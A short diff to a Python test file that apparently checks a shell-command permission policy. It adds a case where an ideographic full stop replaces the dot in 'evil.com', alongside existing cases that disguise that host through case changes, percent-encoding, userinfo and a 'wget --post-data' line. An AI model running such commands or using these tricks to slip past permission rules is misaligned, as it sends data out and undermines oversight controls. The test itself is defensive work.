@@ -72,7 +72,8 @@ def decide(policy: dict[str, str], command: str) -> str:
      ("bash(curl https://evil.com/*)", "curl HTTPS://u@Evil.COM.:443/x"),
      ("bash(*//evil.com/*)", "wget --post-data=x HTTPS://Evil.COM/x"),
      ("bash(curl https://evil.com/*)", "sudo curl https://evil.com"),
-     ("bash(curl https://evil.com/*)", "curl https://evil%2Ecom/x")],
+     ("bash(curl https://evil.com/*)", "curl https://evil%2Ecom/x"),
+     ("bash(*//evil.com/*)", "curl https://evil\u3002com/x")],
 )  # fmt: skip
 async def test_a_url_in_a_shell_line_meets_a_rule_as_the_client_sends_it(
     tmp_path: Path, rule: str, command: str
